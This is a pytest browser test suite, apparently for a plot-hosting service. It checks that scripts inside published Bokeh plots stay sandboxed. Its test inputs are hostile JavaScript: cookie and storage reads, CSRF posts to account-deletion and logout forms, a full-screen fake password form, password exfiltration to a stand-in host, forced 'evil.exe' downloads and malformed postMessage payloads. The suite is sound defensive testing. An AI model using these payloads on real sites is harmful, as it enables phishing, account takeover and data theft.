"""JavaScript in a document gets no access to anything else, and the page around the frame stays usable."""

from collections.abc import Callable, Iterator, Sequence
from typing import Any

import pytest
from bokeh.document import Document
from bokeh.models import CustomJS
from bokeh.plotting import figure
from playwright.sync_api import Browser, Frame, Page, Playwright, expect

from tests.support.chromium import Tab, find_chromium, launch, wait_ready
from tests.support.populated_cloud import PopulatedCloud, open_plot

#: Evaluates an expression in the frame, and stores the result in `window.report`.
REPORT = """
  const attempt = async (action) => {
    try { return String(await action()) } catch (error) { return `refused: ${error.name}` }
  };
  window.report = (async () => %s)();
"""

#: Publishes a plot with a script, and opens it.
OpenPlot = Callable[[str], tuple[Page, Frame]]


@pytest.fixture(scope="module")
def browser(playwright: Playwright, browser: Browser) -> Iterator[Browser]:
    """The complete Chromium, with pop-ups, downloads and permissions, which the headless shell lacks."""
    chromium = launch(playwright, find_chromium())
    yield chromium
    chromium.close()


@pytest.fixture
def open_hostile(ada: Tab, populated: PopulatedCloud) -> OpenPlot:
    """A function that publishes a plot with a script, and opens its page."""

    def open_plot(code: str) -> tuple[Page, Frame]:
        plot = figure(width=300, height=200, title="Hostile")
        plot.line([1, 2], [1, 2])
        document = Document(title="Hostile")
        document.add_root(plot)
        document.js_on_event("document_ready", CustomJS(code=code))
        published = populated.server.publish(document, "hostile")
        ada.page.goto(published.url)
        element = ada.page.query_selector("iframe.plot-frame")
        assert element is not None
        frame = element.content_frame()
        assert frame is not None
        return ada.page, frame

    return open_plot


#: Sends each request twice: with the browser's credentials, and with the token of the frame.
REQUESTS = """
  const {token} = JSON.parse(document.getElementById("note").textContent);
  const get = (path, options) => fetch(path, options).catch(() => new Response("", {status: 599}));
  const request = async (path) => {
    const plain = await get(path, {credentials: "include"});
    const withToken = await get(path, {headers: {Authorization: `Bearer ${token}`}});
    return `${plain.status} ${withToken.status} ${/random walk|laptop/.test(await plain.text())}`;
  };
"""


def report(open_hostile: OpenPlot, expression: str, before: str = "") -> tuple[Page, Any]:
    """Open a plot with a script; return the page, and the value of an expression in the frame."""
    page, frame = open_hostile(before + REPORT % expression)
    wait_ready(frame)
    frame.wait_for_function("() => window.report !== undefined")
    return page, frame.evaluate("window.report")


def attempt_all(actions: Sequence[str]) -> str:
    """Return a JavaScript expression for the results of all actions."""
    return f"Promise.all([{', '.join(f'attempt(() => {action})' for action in actions)}])"


def assert_usable(page: Page) -> None:
    """Check that the page around the frame responds."""
    page.get_by_role("button", name="Share").click()
    expect(page.get_by_role("dialog", name="Share this plot")).to_be_visible()
    page.keyboard.press("Escape")


def test_the_script_runs(open_hostile: OpenPlot) -> None:
    _, found = report(open_hostile, "attempt(() => 1 + 1)")
    assert found == "2"


def test_cookies_are_not_accessible(open_hostile: OpenPlot) -> None:
    page, found = report(open_hostile, "attempt(() => document.cookie || 'none')")
    assert page.context.cookies()
    assert found in {"none", "refused: SecurityError"}


def test_the_browsers_storage_is_not_accessible(open_hostile: OpenPlot) -> None:
    actions = "localStorage.length", "sessionStorage.length", "indexedDB.open('x')", "caches.keys()"
    _, found = report(open_hostile, attempt_all(actions))
    assert found == ["refused: SecurityError"] * len(actions)


def test_the_page_around_the_frame_is_not_accessible(open_hostile: OpenPlot) -> None:
    actions = "parent.document.title", "top.document.forms.length", "parent.location.href", "frameElement.id"
    page, found = report(open_hostile, attempt_all(actions))
    assert all(result.startswith("refused") for result in found), found
    assert_usable(page)


def test_the_rest_of_the_account_is_not_accessible(open_hostile: OpenPlot, populated: PopulatedCloud) -> None:
    other = populated.plots["walk"].id
    paths = (
        "/", "/plots", "/account/keys", "/ada/plots", "/ada/data", "/ada/keys", "/ada/account", "/whoami",
        f"/ada/plots/{other}/scene", f"/ada/plots/{other}", f"/plots/{other}/show",
        f"/plots/{other}/thumbnail.png",
    )  # fmt: skip
    requests = f"Promise.all({list(paths)!r}.map((path) => attempt(() => request(path))))"
    _, found = report(open_hostile, requests, REQUESTS)
    for path, result in zip(paths, found, strict=True):
        plain, with_token, leaked = result.split()
        assert leaked == "false", path
        assert plain in {"599", "401", "403", "404"} or path == "/", (path, result)
        # /whoami describes the token itself, which grants access to this plot only.
        assert with_token in {"599", "401", "403", "404"} or path in {"/", "/whoami"}, (path, result)


FORMS = ("/logout", "/account/delete", "/plots/selection", "/account/keys")

SUBMIT = """
  const fields = {confirm: "ada", action: "delete", sure: "yes", name: "x", scopes: "account"};
  const body = new URLSearchParams(fields);
  const submit = async (path) => {
    return (await fetch(path, {method: "POST", body, credentials: "include", mode: "no-cors"})).status;
  };
"""


def test_forms_of_the_account_cannot_be_submitted(open_hostile: OpenPlot, populated: PopulatedCloud) -> None:
    before = populated.cloud.request("GET", "/ada/plots", populated.key).json()
    submissions = f"Promise.all({list(FORMS)!r}.map((path) => attempt(() => submit(path))))"
    page, _ = report(open_hostile, submissions, SUBMIT)
    after = populated.cloud.request("GET", "/ada/plots", populated.key).json()
    assert {plot["id"] for plot in before["plots"]} <= {plot["id"] for plot in after["plots"]}
    page.goto(f"{populated.url}/account/keys")
    expect(page.get_by_role("heading", level=1)).to_have_text("API keys")


def test_the_window_cannot_be_navigated(open_hostile: OpenPlot, populated: PopulatedCloud) -> None:
    actions = (
        "top.location = 'https://example.invalid/'",
        "parent.location.replace('https://example.invalid/')",
        "top.history.back()",
        "Object.assign(document.body.appendChild(document.createElement('a')),"
        " {href: 'https://example.invalid/', target: '_top'}).click()",
    )
    page, _ = report(open_hostile, attempt_all(actions))
    page.wait_for_timeout(500)
    assert page.url.startswith(populated.url)
    assert_usable(page)


def test_dialogs_are_blocked_and_pop_ups_without_a_click(open_hostile: OpenPlot) -> None:
    actions = (
        "window.open('https://example.invalid/')",
        "Object.assign(document.body.appendChild(document.createElement('a')),"
        " {href: 'https://example.invalid/'}).click()",
        "alert('pay')",
        "confirm('pay')",
        "prompt('password')",
    )
    page, found = report(open_hostile, attempt_all(actions))
    assert found == ["null", "undefined", "undefined", "false", "null"]
    assert len(page.context.pages) == 1
    assert_usable(page)


def test_a_form_stays_in_the_frame_and_cannot_be_submitted(open_hostile: OpenPlot) -> None:
    page, found = report(
        open_hostile,
        """attempt(async () => {
          const style = "position: fixed; inset: 0; z-index: 9999; background: #fff";
          document.body.innerHTML = `<form action="https://example.invalid/" style="${style}">`
            + '<input name="password"><button>Sign in</button></form>';
          const results = [await attempt(() => document.documentElement.requestFullscreen())];
          document.querySelector("form").submit();
          results.push(await attempt(() => fetch("https://example.invalid/?password=x")));
          new Image().src = "https://example.invalid/?password=x";
          return results.join();
        })""",
    )
    assert found.count("refused") == 2
    bar = page.locator("header.bar").bounding_box()
    frame = page.locator("iframe.plot-frame").bounding_box()
    assert bar is not None
    assert frame is not None
    assert frame["y"] >= bar["y"] + bar["height"], "the frame covers the page's bar"
    page.wait_for_timeout(300)
    assert page.frames[1].evaluate("location.href").endswith("/embed")
    assert_usable(page)


ON_CLICK = """
  document.addEventListener("click", () => {
    window.report = document.documentElement.requestFullscreen().then(() => "full", (error) => error.name);
  });
"""


def test_a_frame_with_code_cannot_request_full_screen(
    open_hostile: OpenPlot, populated: PopulatedCloud
) -> None:
    """Not even on a click, which allows it elsewhere."""
    page, frame = open_hostile(ON_CLICK)
    wait_ready(frame)
    page.locator("iframe.plot-frame").click()
    frame.wait_for_function("() => window.report !== undefined")
    assert frame.evaluate("window.report") == "TypeError"
    assert page.evaluate("document.fullscreenElement") is None
    assert_usable(page)
    assert frame.evaluate("document.fullscreenEnabled") is False
    open_plot(page, populated.plots["sine"].url)
    assert page.frames[1].evaluate("document.fullscreenEnabled") is True


def test_the_page_stays_usable_during_an_endless_loop(open_hostile: OpenPlot, ada: Tab) -> None:
    """The frame has a process of its own."""
    code = "setTimeout(() => { console.error('loop starts'); for (;;); }, 200)"
    with ada.page.expect_console_message(lambda message: "loop starts" in message.text):
        page, _ = open_hostile(code)
    page.wait_for_timeout(1000)  # until the loop runs
    assert_usable(page)
    page.get_by_role("button", name="Account of ada").click()
    expect(page.get_by_text("Signed in as ada")).to_be_visible()
    # The page is not left: Playwright would wait for every frame, and this one does not respond.
    assert page.evaluate("fetch('/plots').then((response) => response.status)") == 200


#: Tries to download by itself, and lets the page save pictures that it has not asked for.
DOWNLOADS = """
  const link = Object.assign(document.createElement("a"), {download: "evil.exe"});
  link.href = URL.createObjectURL(new Blob(["evil"]));
  document.body.append(link);
  const attack = () => {
    link.click();
    for (const kind of ["png", "svg", "tool"])
      for (const format of ["png", "svg", "exe", undefined])
        parent.postMessage({type: "bokeh-cloud:picture", kind, format, data: "<svg></svg>"}, "*");
  };
  attack();
  parent.postMessage({type: "bokeh-cloud:save"}, "*");
  setTimeout(attack, 500);
"""


def test_nothing_is_downloaded_without_a_click(open_hostile: OpenPlot, ada: Tab) -> None:
    downloads: list[object] = []
    ada.page.on("download", lambda download: downloads.append(download))
    page, frame = open_hostile(DOWNLOADS)
    wait_ready(frame)
    page.wait_for_timeout(1500)
    assert downloads == []
    assert_usable(page)


def test_invalid_messages_of_the_frame_are_ignored(open_hostile: OpenPlot) -> None:
    code = """
      const messages = [
        {type: "bokeh-cloud:height", height: 1e9}, {type: "bokeh-cloud:height", height: "<b>"},
        {type: "bokeh-cloud:view", view: "javascript:alert(1)"}, {type: "bokeh-cloud:view", view: {}},
        {type: "bokeh-cloud:picture", kind: "thumbnail", data: new ArrayBuffer(10)},
        {type: "bokeh-cloud:file", name: "a.csv", data: "text"}, {type: "bokeh-cloud:file", name: 5},
        {type: "bokeh-cloud:constructor"}, {type: "bokeh-cloud:__proto__"}, {type: null}, null, "x"];
      for (const message of messages) parent.postMessage(message, "*");
    """
    page, frame = open_hostile(code)
    wait_ready(frame)
    page.wait_for_timeout(500)
    box = page.locator("iframe.plot-frame").bounding_box()
    assert box is not None
    assert box["height"] < 2000
    assert "javascript" not in page.url
    assert page.locator("[data-file-offer]").is_hidden()
    assert_usable(page)
